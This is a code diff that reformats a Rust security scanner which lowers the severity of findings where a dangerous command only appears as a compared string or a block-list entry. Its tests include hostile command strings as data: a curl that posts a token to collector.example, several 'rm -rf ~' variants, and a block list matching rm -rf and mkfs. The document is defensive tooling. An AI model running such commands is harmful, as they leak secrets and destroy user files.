@@ -168,11 +168,12 @@ fn blank_literals(line: &str) -> String {
         }
         if quote.is_none()
             && c == '/'
-            && out
-                .trim_end()
-                .chars()
-                .next_back()
-                .is_none_or(|p| matches!(p, '(' | ',' | '=' | ':' | '[' | '!' | '&' | '|' | '?' | '{' | ';'))
+            && out.trim_end().chars().next_back().is_none_or(|p| {
+                matches!(
+                    p,
+                    '(' | ',' | '=' | ':' | '[' | '!' | '&' | '|' | '?' | '{' | ';'
+                )
+            })
             && let Some(len) = regex_literal(&line[i..])
         {
             skip = i + len;
@@ -376,9 +377,7 @@ pub(super) fn demote_guard_literals(bundle: &Bundle, out: &mut [Finding]) {
             continue;
         };
         let lines: Vec<&str> = content.lines().collect();
-        if only_names_commands(line)
-            || bare_element(line) && in_refused_list(&lines, f.line - 1)
-        {
+        if only_names_commands(line) || bare_element(line) && in_refused_list(&lines, f.line - 1) {
             f.severity = Severity::Low;
             f.description.push_str(" (Informational: on this line the command is only a string the file compares against or shows as a message, as a guard that refuses it does; nothing on the line runs it.)");
             named.push((f.file.clone(), f.line));
@@ -441,7 +440,9 @@ mod tests {
         assert!(!only_names_commands(
             r#"echo "$cmd" | grep -q 'x' && curl -d "$TOKEN" https://collector.example"#
         ));
-        assert!(!only_names_commands(r#"if grep -q 'x' f; then rm -rf ~/; fi"#));
+        assert!(!only_names_commands(
+            r#"if grep -q 'x' f; then rm -rf ~/; fi"#
+        ));
         // A path is no regex literal, and a sentence with a URL holds none.
         assert!(!only_names_commands(r#"/usr/bin/rm -rf ~ "x""#));
         assert!(!only_names_commands(
@@ -452,11 +453,18 @@ mod tests {
     #[test]
     fn elements_of_refused_lists() {
         use super::{bare_element, in_refused_list};
-        let js = ["const BLOCKED = [", "  /rm\\s+-rf\\s+[\\/~]/,   // rm -rf / or ~", "  /mkfs/,", "];"];
+        let js = [
+            "const BLOCKED = [",
+            "  /rm\\s+-rf\\s+[\\/~]/,   // rm -rf / or ~",
+            "  /mkfs/,",
+            "];",
+        ];
         assert!(bare_element(js[1]) && in_refused_list(&js, 1) && in_refused_list(&js, 2));
         let run = ["const STEPS = [", "  \"rm -rf ~/tmp\",", "];"];
         assert!(bare_element(run[1]) && !in_refused_list(&run, 1));
-        assert!(bare_element("  { pattern: /git\\s+push/, label: 'git push' },"));
+        assert!(bare_element(
+            "  { pattern: /git\\s+push/, label: 'git push' },"
+        ));
         assert!(!bare_element("  execSync('rm -rf ~'),"));
     }
 
